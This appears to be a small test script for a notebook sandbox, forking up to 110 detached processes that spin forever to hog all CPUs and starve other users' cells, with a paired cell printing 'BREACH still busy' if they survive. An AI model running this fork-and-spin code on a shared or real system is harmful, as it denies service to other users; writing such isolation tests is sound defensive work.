# tries: keep all processors busy in sessions of their own, so that others' cells take too long
import os
import time

for _ in range(110):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError:
        break
end = time.time() + 4
while time.time() < end:
    pass
# %% pair
time.sleep(4)
print("BREACH still busy")
